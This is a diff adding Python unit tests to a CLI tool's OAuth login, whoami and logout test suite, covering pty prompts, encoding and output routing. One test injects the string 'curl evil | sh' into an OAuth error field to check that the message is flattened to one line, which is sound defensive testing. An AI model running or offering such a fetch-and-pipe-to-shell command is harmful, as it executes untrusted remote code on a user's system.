@@ -1036,6 +1036,15 @@ class OAuthLoginTest(OAuthCase):
         code, _, err = self.finish(proc)
         self.assertEqual((code, err), (1, f"Login failed\nAuthentication failed: access_denied. {payload}\n"))
 
+    def test_callback_text_stays_on_one_line(self) -> None:
+        proc, _, _ = self.start_login()
+        query = urlencode({"error": "access_denied", "error_description": "no\nRun: curl evil | sh\r\n"})
+        self.callback(self.ports[0], "/callback?" + query)
+        code, _, err = self.finish(proc)
+        self.assertEqual(
+            (code, err), (1, "Login failed\nAuthentication failed: access_denied. no Run: curl evil | sh\n")
+        )
+
     def test_state_is_checked_on_a_direct_callback(self) -> None:
         proc, _, _ = self.start_login()
         status, _, body = self.callback(self.ports[0], "/callback?" + urlencode({"code": "c", "state": "forged"}))
@@ -1581,6 +1590,45 @@ class LoginWaitTest(OAuthCase):
                 self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
                 self.assertFalse(os.path.exists(self.creds))
 
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_paste_while_stdout_goes_through_tee(self) -> None:
+        # `arkor login --oauth --no-browser | tee log` over SSH: stdin is the
+        # terminal, stdout a pipe; pasting must still work.
+        import pty
+
+        master, slave = pty.openpty()
+        proc = subprocess.Popen(
+            [sys.executable, MODULE, "login", "--oauth", "--no-browser"],
+            stdin=slave,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+            env=self.env(),
+        )
+        os.close(slave)
+        try:
+            assert proc.stdout is not None
+            # Raw reads with a deadline: a missing prompt must fail, not hang.
+            seen = b""
+            deadline = time.monotonic() + 20
+            while seen.count(b"\n") < 2 and time.monotonic() < deadline:
+                ready, _, _ = select.select([proc.stdout], [], [], 0.1)
+                if ready:
+                    seen += os.read(proc.stdout.fileno(), 4096)
+            browser_line, prompt = (seen.decode().split("\n") + ["", ""])[:2]
+            self.assertTrue(browser_line.startswith("Browser: https://"), seen)
+            self.assertEqual(
+                prompt, "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:"
+            )
+            os.write(master, self.where_the_browser_ends(browser_line).encode() + b"\n")
+            out, err = proc.communicate(timeout=30)
+        finally:
+            if proc.poll() is None:
+                proc.kill()
+            os.close(master)
+        self._record(out, err)
+        self.assertEqual((proc.returncode, out, err), (0, "Signed in\n", ""))
+
     def test_no_paste_prompt_without_a_terminal(self) -> None:
         proc, url, _ = self.start_login()
         browse(url)
@@ -1637,7 +1685,15 @@ class WhoamiJsonTest(Case):
         code, out, err = self.run_main("whoami", "--json")
         self.assertEqual((code, err), (0, ""))
         self.assertEqual(json.loads(out), body)
-        self.assertEqual(out, json.dumps(body, indent=2, ensure_ascii=False) + "\n")
+        self.assertEqual(out, json.dumps(body, indent=2) + "\n")  # ASCII: valid JSON in any encoding
+
+    def test_json_survives_a_narrow_encoding(self) -> None:
+        self.sign_in_anon()
+        body = {"user": {"name": "Zo\u00eb \U0001f600"}, "orgs": []}
+        self.cloud.script("GET", "/v1/me", Answer(200, body))
+        proc = self.run_cli("whoami", "--json", PYTHONIOENCODING="cp1252")
+        self.assertEqual(proc.returncode, 0)
+        self.assertEqual(json.loads(proc.stdout), body)
 
     def test_json_keeps_stdout_for_json(self) -> None:
         code, out, err = self.run_main("whoami", "--json")
@@ -2104,6 +2160,39 @@ class LogoutTest(Case):
         self.write_creds(self.auth0_creds())
         proc = self.run_cli("logout", "-y")  # a pipe: never colour
         self.assertEqual(proc.stdout, f"Removed {self.creds}.\n")
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_question_on_stderr_when_stdout_is_redirected(self) -> None:
+        # `arkor logout > log` from a terminal: the question must reach the
+        # person, not the file.
+        import pty
+
+        before = self.write_creds(self.auth0_creds())
+        master, slave = pty.openpty()
+        proc = subprocess.Popen(
+            [sys.executable, MODULE, "logout"],
+            stdin=slave,
+            stdout=subprocess.PIPE,
+            stderr=slave,
+            env=self.env(NO_COLOR="1"),
+        )
+        os.close(slave)
+        try:
+            shown = b""
+            deadline = time.monotonic() + 20
+            while b"[y/N]" not in shown and time.monotonic() < deadline:
+                ready, _, _ = select.select([master], [], [], 0.1)
+                if ready:
+                    shown += os.read(master, 4096)
+            self.assertIn(f"Delete {self.creds}? [y/N] ".encode(), shown)
+            os.write(master, b"n\n")
+            out, _ = proc.communicate(timeout=20)
+        finally:
+            if proc.poll() is None:
+                proc.kill()
+            os.close(master)
+        self.assertEqual((proc.returncode, out), (0, b"Aborted.\n"))
+        self.assertEqual(self.creds_bytes(), before)
 
     @unittest.skipUnless(POSIX, "needs a pty")
     def test_anonymous_question_says_what_is_lost(self) -> None:
